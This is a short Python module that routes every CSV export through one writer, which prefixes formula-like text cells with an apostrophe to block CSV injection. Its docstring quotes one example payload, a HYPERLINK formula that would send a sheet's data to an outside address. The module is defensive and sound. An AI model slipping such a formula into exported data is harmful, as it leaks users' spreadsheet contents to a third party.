"""The one CSV writer: every CSV xxgk writes goes through `write_csv`, which neutralises formulas.

A spreadsheet opening a CSV runs a cell that starts with = + - @ (or a tab / carriage return
before one) as a formula: a report titled `=HYPERLINK("http://…"&A1,"click")` would send the
sheet's data away (CSV injection, OWASP). Such text cells get a leading `'`, which spreadsheets
show as text; numbers are numbers and stay as they are. Parquet and SQLite keep the text as read.
"""
from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value` as a spreadsheet shows it as text (strings only; anything else unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(df: pd.DataFrame, file, header: bool = True, float_format: str | None = None) -> None:
    """Write `df` to the open text `file` as CSV, with every text cell made safe (safe_cell)."""
    text = [c for c in df.columns if pd.api.types.is_string_dtype(df[c]) or df[c].dtype == object]
    if text:
        df = df.assign(**{c: df[c].map(safe_cell, na_action="ignore") for c in text})
    df.to_csv(file, index=False, header=header, float_format=float_format)
